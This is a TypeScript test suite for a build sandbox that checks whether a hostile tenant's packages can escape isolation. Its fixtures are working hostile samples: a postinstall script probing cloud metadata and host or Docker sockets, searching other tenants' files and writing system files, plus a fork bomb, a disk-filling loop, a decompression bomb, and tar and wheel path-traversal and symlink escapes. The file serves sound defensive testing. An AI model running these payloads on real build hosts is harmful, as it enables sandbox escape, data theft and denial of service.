// Mallory's project and her packages, in machines that build. What she runs there tries the network, the
// host, other builds, the disk and the processor; what she packs is a bomb, leaves its folder, or lies where
// the packages of others go. Ada builds on the same host before, meanwhile and after. starts: host/main.ts
import { once } from 'node:events';
import { readdir, readFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import { connect } from 'node:net';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import { gzipSync } from 'node:zlib';
import { list } from 'tar';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { rawEntry, rawPax, rawTar, type RawEntry } from '#core/agents/source/tar-fixture.ts';
import type { BuildInput, BuildOutput, LogLine } from '#drivers/runtime/port.ts';
import { uniqueId } from '#drivers/runtime/test/agents.ts';
import { pythonIndex, type PythonIndex } from '#host/test/python-index.ts';
import { testRegistry, type TestRegistry } from '#host/test/registry.ts';
import { testHost, type TestHost } from '#host/test/support.ts';

const MIB = 1_048_576;
/**
 * Ada's, in a package that only she uses. Written backwards where it is looked for, so that the search does
 * not find itself.
 */
const SECRET = `ADAS-SOURCE-${process.pid}-${Date.now()}`;
const backwards = SECRET.split('').toReversed().join('');

/** Part of what decides an install: hosts share what they keep, and nothing of an earlier run is found. */
const RUN = uniqueId('run');

let host: TestHost;
let registry: TestRegistry;
let index: PythonIndex;
let inside: Server;
let reached = 0;
const portOf = (server: Server): number => (server.address() as AddressInfo).port;

type Line = Omit<LogLine, 'seq'>;
type Files = Record<string, string>;

async function build(tenant: string, files: Files | RawEntry[], lines: Line[] = [], more: Partial<BuildInput> = {}): Promise<BuildOutput> {
  const entries = Array.isArray(files) ? files : Object.entries(files).map(([path, body]) => ({ path, body }));
  const input = {
    build_id: uniqueId('b'),
    tenant,
    source: Readable.from([rawTar(entries)]),
    language: 'typescript' as const,
    entrypoint: 'agent:Tester',
    ...more,
  };
  return await host.runtime.build(input, (line) => lines.push(line), new AbortController().signal);
}
const textOf = (lines: Line[]): string => lines.map(({ text }) => text).join('\n');

const agent = (imports = ''): string => `import { Agent } from '@svc/sdk';
${imports}
export class Tester extends Agent { override name = 'tester'; override description = ''; override version = '1.0.0'; }
`;
const wanted = (names: string[]): Files => Object.fromEntries(names.map((name) => [name, '1.0.0']));
const project = (names: string[], more: object = {}): Files => ({
  'agent.ts': agent(names.map((name) => `import * as ${name} from '${name}'; console.log(${name});`).join('\n')),
  'package.json': JSON.stringify({ dependencies: wanted(names), keywords: [RUN], ...more }),
  'package-lock.json': JSON.stringify({
    name: 'p',
    lockfileVersion: 3,
    requires: true,
    packages: { '': { name: 'p', dependencies: wanted(names) }, ...Object.fromEntries(names.map((name) => [`node_modules/${name}`, { version: '1.0.0' }])) },
  }),
});

/** The layer of an image, by path: what it holds of each, where it is text. */
async function contentOf({ image }: BuildOutput): Promise<Map<string, { type: string; text: string }>> {
  const folder = join(host.stateDir, 'image');
  const name = (await readdir(folder)).find((one) => one.startsWith(image.slice(7)) && one.endsWith('.tar'));
  const found = new Map<string, { type: string; text: string }>();
  const onReadEntry = (entry: { path: string; type: string; on(event: 'data', take: (chunk: Buffer) => void): unknown }): void => {
    const held = { type: entry.type, text: '' };
    found.set(entry.path, held);
    entry.on('data', (chunk) => void (held.text += chunk.toString('latin1')));
  };
  await list({ file: join(folder, name ?? 'no archive'), onReadEntry });
  return found;
}
const bundleOf = async (built: BuildOutput): Promise<string> => (await contentOf(built)).get('app/svc-agent.cjs')?.text ?? '';

/** Everything that code in a build may try; it says what came of each. */
const attempts = (port: number): string => `
import glob, json, os, socket, subprocess, sys
said = {}
def reach(host, at):
    try: socket.create_connection((host, at), 3).close(); return True
    except OSError: return False
said['reached'] = [f'{host}:{at}' for host, at in (('169.254.169.254', 80), ('10.0.2.2', ${port}), ('10.0.2.2', 22), ('192.168.0.1', 80), ('172.17.0.1', ${port}), ('127.0.0.1', ${port}), ('::1', ${port})) if reach(host, at)]
def through(target, method='CONNECT'):
    s = socket.socket(socket.AF_UNIX); s.settimeout(20); s.connect('/run/svc/host/egress.sock')
    first = f'CONNECT {target} HTTP/1.1' if method == 'CONNECT' else f'{method} http://{target}/ HTTP/1.1'
    s.sendall(f'{first}\\r\\nHost: {target}\\r\\nConnection: close\\r\\n\\r\\n'.encode())
    return s.recv(100).split(b'\\r\\n')[0].decode()
targets = ['localhost:${port}', '127.0.0.1:${port}', '[::1]:${port}', '169.254.169.254:80', 'metadata.google.internal:80', '10.0.0.1:443', 'localhost.:${port}', '2130706433:${port}', 'host.invalid:443']
said['through'] = sorted({through(target) for target in targets} | {through(targets[0], method) for method in ('GET', 'POST', 'PUT')})
said['sockets'] = sorted(path for path in glob.glob('/run/svc/host/*'))
def opens(path):
    s = socket.socket(socket.AF_UNIX)
    try: s.connect(path); return True
    except OSError: return False
said['opened'] = [path for path in ('/run/svc/host/host.sock', '/run/svc/host/control.sock', '/run/svc/host/guests.sock', '/run/docker.sock', '/var/run/docker.sock') if opens(path)]
marker = '${backwards}'[::-1].encode()
own = '/tmp/own-copy'
open(own, 'wb').write(marker)
found = []
for folder, dirs, files in os.walk('/'):
    if folder == '/': dirs[:] = [name for name in dirs if name not in ('proc', 'sys', 'usr', 'opt')]
    for name in files:
        path = os.path.join(folder, name)
        if not os.path.isfile(path): continue
        try: data = open(path, 'rb').read(8 << 20)
        except OSError: continue
        if marker in data: found.append(path)
said['found'] = found
def writes(path):
    try: open(path, 'ab').close(); return True
    except OSError: return False
outside = ['/etc/passwd', '/usr/local/bin/bun', '/opt/svc/guest/build.mjs', '/opt/svc/guest/agent.cjs', '/run/svc/host/x', '/sbin/init', '/proc/sysrq-trigger', '/proc/sys/kernel/core_pattern', '/dev/mem', *glob.glob('/dev/vd*'), *glob.glob('/dev/vport*')]
said['wrote'] = [path for path in outside if writes(path)]
for make in (['mount', '-t', 'tmpfs', 'x', '/mnt'], ['mknod', '/tmp/disk', 'b', '254', '0']):
    if subprocess.run(make, capture_output=True).returncode == 0: said['wrote'].append(make[0])
# What it leaves behind writes on, into what comes out and into what is kept.
left = '''import time
while True:
    for path in ('/work/src/node_modules/plain/index.js', '/work/out/app/left.txt'):
        try: open(path, 'w').write('exports.word = "poisoned";')
        except OSError: pass
    time.sleep(0.05)
'''
said['left'] = subprocess.Popen([sys.executable, '-c', left], start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL).pid > 0
print('TRIED ' + json.dumps(said), flush=True)
`;

/** A package of which the archive was made by hand. */
const odd = (name: string, parts: (RawEntry | Buffer)[]) => ({
  name,
  files: {},
  archive: rawTar([{ path: 'package/package.json', body: JSON.stringify({ name, version: '1.0.0', main: 'index.js' }) }, { path: 'package/index.js', body: `exports.arrived = "${name}";` }, ...parts]), // prettier-ignore
});
const zeros = (mib: number): Buffer => gzipSync(Buffer.concat([rawEntry({ path: 'package/package.json', body: '{"name":"bomb","version":"1.0.0"}' }), rawEntry({ path: 'package/zeros', size: mib * MIB }).subarray(0, 512), Buffer.alloc(mib * MIB), Buffer.alloc(1024)])); // prettier-ignore
const setup = `import setuptools, sys
sys.stderr.write("SETUP RAN\\n")
open("/tmp/setup-ran", "w").close()
setuptools.setup(name="sourced", version="1.0.0", py_modules=["sourced"])
`;

beforeAll(async () => {
  inside = createServer((_request, response) => {
    reached += 1;
    response.end('inside');
  }).listen(0, '127.0.0.1');
  await once(inside, 'listening');
  registry = await testRegistry([
    { name: 'plain', files: { 'index.js': 'exports.word = "plain";' } },
    { name: 'secrets', files: { 'index.js': `exports.word = "${SECRET}";` } },
    {
      name: 'mallory',
      files: { 'index.js': 'exports.ran = true;', 'try.py': attempts(portOf(inside)) },
      manifest: { scripts: { postinstall: 'python3 try.py' } },
    },
    { name: 'forks', files: { 'index.js': '' }, manifest: { scripts: { postinstall: 'f() { f | f & }; f; while :; do :; done' } } },
    {
      name: 'fills',
      files: { 'index.js': '' },
      manifest: { scripts: { postinstall: 'while :; do dd if=/dev/zero of=/tmp/fill bs=1M count=64 oflag=append conv=notrunc; done' } },
    },
    { name: 'bomb', files: {}, archive: zeros(400) },
    odd('leaves', [
      { path: 'package/../../outside.txt', body: 'out' },
      { path: '../../../../tmp/outside.txt', body: 'out' },
      { path: '/tmp/absolute.txt', body: 'out' },
      rawPax(['path=/tmp/pax.txt']),
      { path: 'package/p', body: 'out' },
      { path: 'package/folder', type: '2', link: '/tmp' },
      { path: 'package/folder/linked.txt', body: 'out' },
      { path: 'package/neighbour', type: '2', link: '../plain/index.js' },
      { path: 'package/neighbour', body: 'exports.word = "poisoned";' },
      { path: 'package/up', type: '2', link: '../plain' },
      { path: 'package/up/index.js', body: 'exports.word = "poisoned";' },
      { path: 'package/hard.js', type: '1', link: '../plain/index.js' },
      { path: 'package/passwd', type: '2', link: '/etc/passwd' },
      { path: 'package/char', type: '3' },
      { path: 'package/block', type: '4' },
      { path: 'package/pipe', type: '6' },
    ]),
  ]);
  const wheel = (name: string, more: object) => ({ name, files: { [`${name}.py`]: 'ARRIVED = True\n' }, ...more });
  index = await pythonIndex([
    { name: 'sourced', files: { 'setup.py': setup, 'sourced.py': '' }, sdist: true },
    wheel('dotted', { files: { 'dotted.py': '', '../../../../tmp/dotted.txt': 'out' } }),
    wheel('rooted', { files: { 'rooted.py': '', '/tmp/rooted.txt': 'out' } }),
    wheel('linked', { links: { folder: '/tmp' }, files: { 'linked.py': '', 'folder/linked-out.txt': 'out' } }),
    wheel('inflated', { large: { 'inflated/zeros.bin': 400 * MIB } }),
    wheel('fine', {}),
  ]);
  const plans = JSON.stringify({ small: { disk_mib: 200, image_mib: 64, tenants: ['mallory-small'] }, short: { minutes: 0.6, tenants: ['mallory-short'] } });
  host = await testHost({ SVC_BUILD_EGRESS: `${registry.url},localhost:${new URL(index.url).port}`, PIP_INDEX_URL: index.url, SVC_BUILD_PLANS: plans });
});
afterAll(async () => {
  registry?.close();
  index?.close();
  inside?.close();
  await host?.end();
});

test('what the attempts are checked against can be reached, from here', async () => {
  await (await fetch(`http://127.0.0.1:${portOf(inside)}/`)).text();
  expect(reached).toBe(1);
  reached = 0;
  const socket = connect(join(host.stateDir, 'run/host.sock'));
  await once(socket, 'connect');
  socket.destroy();
});

describe('code that runs in a build', () => {
  test('finds no network, no socket of the host, nothing of other builds, and nothing that it may write outside of its folders', async () => {
    await build('ada', project(['secrets', 'plain']));
    const lines: Line[] = [];
    const build_id = uniqueId('b');
    const built = await build('mallory', project(['mallory', 'plain'], { trustedDependencies: ['mallory'] }), lines, { build_id });
    const said: unknown = JSON.parse(/TRIED (.*)/.exec(textOf(lines))?.[1] ?? 'null');
    expect(said, textOf(lines)).toEqual({
      reached: [],
      through: ['HTTP/1.1 403 Forbidden', 'HTTP/1.1 403 Refused'],
      sockets: ['/run/svc/host/egress.sock'],
      opened: [],
      // The search finds what is there.
      found: ['/tmp/own-copy'],
      wrote: [],
      left: true,
    });
    expect(reached).toBe(0);
    // What she left behind worked on what is her own, and ended with its machine.
    expect(await bundleOf(built)).toContain('poisoned');
    expect(await remains(build_id)).toEqual([]);
    const adas = await build('ada', project(['secrets', 'plain']));
    expect(adas.cached).toBe(true);
    expect(await bundleOf(adas)).not.toContain('poisoned');
  });

  test('multiplies without end: it is ended with its machine when its time is over, and Ada builds meanwhile', async () => {
    const build_id = uniqueId('b');
    const bomb = build('mallory-short', project(['forks'], { trustedDependencies: ['forks'] }), [], { build_id }).catch((error: unknown) => error);
    await expect(build('ada', project(['plain'], { keywords: [uniqueId('k')] }))).resolves.toMatchObject({ cached: false });
    expect(await bomb).toMatchObject({ code: 'build_failed', message: expect.stringMatching(/longer than 0\.6 minutes.*plan "short"/) });
    expect(await remains(build_id)).toEqual([]);
  });

  test('fills the disk: it is refused by its plan', async () => {
    const build_id = uniqueId('b');
    const full = build('mallory-small', project(['fills'], { trustedDependencies: ['fills'] }), [], { build_id });
    await expect(full).rejects.toMatchObject({ code: 'build_failed', message: expect.stringMatching(/more than the 200 MiB that are allowed.*plan "small"/) });
    expect(await remains(build_id)).toEqual([]);
  });
});

describe('packages that others get too', () => {
  test("Ada builds Mallory's project, which brings its packages along: what is kept for Ada is the registry's all the same", async () => {
    const files = project(['plain'], { keywords: [uniqueId('k')] });
    const poison = [
      { path: 'node_modules/plain/package.json', body: '{"name":"plain","version":"1.0.0","main":"index.js"}' },
      { path: 'node_modules/plain/index.js', body: 'exports.word = "poisoned";' },
    ];
    const entries = [...Object.entries(files).map(([path, body]) => ({ path, body })), ...poison];
    const first = await build('ada', entries);
    expect(first.cached).toBe(false);
    const own = await build('ada', files);
    expect(own.cached).toBe(true);
    expect(await bundleOf(own)).toContain('"plain"');
    expect(await bundleOf(own)).not.toContain('poisoned');
    // Nor does what comes from the cache lie among what a project brought.
    expect(await bundleOf(await build('ada', entries))).not.toContain('poisoned');
  });
});

describe('archives of packages', () => {
  test('a tarball with names, links and devices that leave its folder: only its own plain files arrive', async () => {
    const lines: Line[] = [];
    const looks = `import { test } from 'node:test';
import { lstatSync, readdirSync, readFileSync } from 'node:fs';
const leaves = '/work/src/node_modules/leaves';
const odd = readdirSync(leaves, { recursive: true }).filter((name) => { const it = lstatSync(leaves + '/' + name); return !it.isFile() && !it.isDirectory(); });
const out = ['/tmp', '/work', '/work/src', '/work/src/node_modules', '/', '/home/agent'].flatMap((folder) => readdirSync(folder).filter((name) => name.endsWith('.txt')).map((name) => folder + '/' + name));
test('looks', () => console.log('SEEN ' + JSON.stringify({ odd, out, own: readdirSync(leaves).toSorted(), plain: readFileSync('/work/src/node_modules/plain/index.js', 'utf8') })));
`;
    const built = await build('mallory', { ...project(['leaves', 'plain']), 'agent.test.js': looks, 'of-the-project.txt': '' }, lines, { checks: 'tests' });
    // The file of the project shows that the search finds files.
    expect(JSON.parse(/SEEN (.*)/.exec(textOf(lines))?.[1] ?? 'null'), textOf(lines)).toEqual({
      odd: [],
      out: ['/work/src/of-the-project.txt'],
      own: expect.arrayContaining(['index.js', 'package.json']),
      plain: 'exports.word = "plain";',
    });
    const content = await contentOf(built);
    expect([...content].filter(([, { type }]) => type !== 'File' && type !== 'Directory').map(([path]) => path)).toEqual(['app/svc-sdk.cjs']);
  });

  test('a tarball that unpacks to more than the plan allows is refused', async () => {
    await expect(build('mallory-small', project(['bomb']))).rejects.toMatchObject({
      code: 'build_failed',
      message: expect.stringMatching(/200 MiB that are allowed/),
    });
  });

  const python = (needs: string[], more: Files = {}): Files => ({
    'agent.py': `import glob, importlib.metadata
open("/tmp/of-the-agent.txt", "w").close()
raise RuntimeError("SEEN " + repr(sorted(glob.glob("/tmp/*.txt") + glob.glob("/tmp/setup-ran") + glob.glob("/work/*.txt"))))
`,
    'requirements.txt': [...needs, `# ${RUN}`, ''].join('\n'),
    ...more,
  });
  const buildPython = (files: Files, lines: Line[] = []) => build('mallory-small', files, lines, { language: 'python' }).catch((reason: unknown) => reason);

  test('wheels with names that leave their folder: nothing is written there, and the next wheel is installed', async () => {
    const lines: Line[] = [];
    const error = await buildPython(python(['dotted==1.0.0', 'rooted==1.0.0', 'fine==1.0.0']), lines);
    expect(textOf(lines)).toMatch(/\+ dotted==1\.0\.0[^]*\+ fine==1\.0\.0[^]*\+ rooted==1\.0\.0/);
    expect(error).toMatchObject({ code: 'build_failed', message: expect.stringContaining("SEEN ['/tmp/of-the-agent.txt', '/work/overrides.txt']") });
  });

  test.each([
    ['a source distribution is not built', python(['sourced==1.0.0']), /Builds install wheels only/],
    ['the project itself is not built', python(['.'], { 'setup.py': setup }), /Building source distributions is disabled/],
    ['a wheel with a link out of its folder', python(['linked==1.0.0']), /Failed to extract archive: linked-1\.0\.0/],
    ['a wheel that unpacks to more than the plan allows', python(['inflated==1.0.0']), /more than the 200 MiB that are allowed.*plan "small"/],
  ])('%s', async (_name, files, message) => {
    const lines: Line[] = [];
    expect(await buildPython(files, lines), textOf(lines)).toMatchObject({ code: 'build_failed', message: expect.stringMatching(message) });
    expect(textOf(lines)).not.toContain('SETUP RAN');
  });
});

/** Of a build: its folder, its file in the cache of packages, its programs. */
async function remains(build_id: string): Promise<string[]> {
  const folders = (await readdir(join(host.stateDir, 'build'))).filter((name) => name.includes(build_id));
  const ids = (await readdir('/proc')).filter((name) => /^\d+$/.test(name));
  const commands = await Promise.all(ids.map((id) => readFile(`/proc/${id}/cmdline`, 'utf8').catch(() => '')));
  return [...folders, ...commands.filter((command) => command.includes(build_id))];
}
